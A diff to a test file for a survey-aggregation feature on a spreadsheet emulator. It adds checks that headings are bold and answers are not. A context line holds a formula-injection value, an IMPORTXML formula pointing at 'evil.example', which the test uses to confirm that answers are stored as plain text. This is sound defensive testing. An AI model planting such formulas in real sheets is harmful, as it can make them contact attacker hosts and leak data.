@@ -125,6 +125,11 @@ describe('アンケートを集計 on the emulator', () => {
         scales.forEach((q, i) => expect(values[dist + v]![1 + i]).toBe(mine.filter((a) => a.answers[q] === String(v)).length));
       }
     }
+    // Headings are bold (one setFontWeights for the whole grid), answers are not.
+    const weights = out.getDataRange().getFontWeights();
+    const heading = values.findIndex((row) => row[0] === '5段階評価');
+    expect([weights[heading]![0], weights[heading + 1]![0]]).toEqual(['bold', 'normal']);
+    expect(emu.ledger.byMethod()['SpreadsheetApp.Range.setFontWeights']).toBe(1);
     // Free text: the formula-looking answer is stored as the words typed, never a formula.
     const r = values.findIndex((row) => row[0] === '=IMPORTXML("https://evil.example","//a")');
     expect(r).toBeGreaterThan(0);
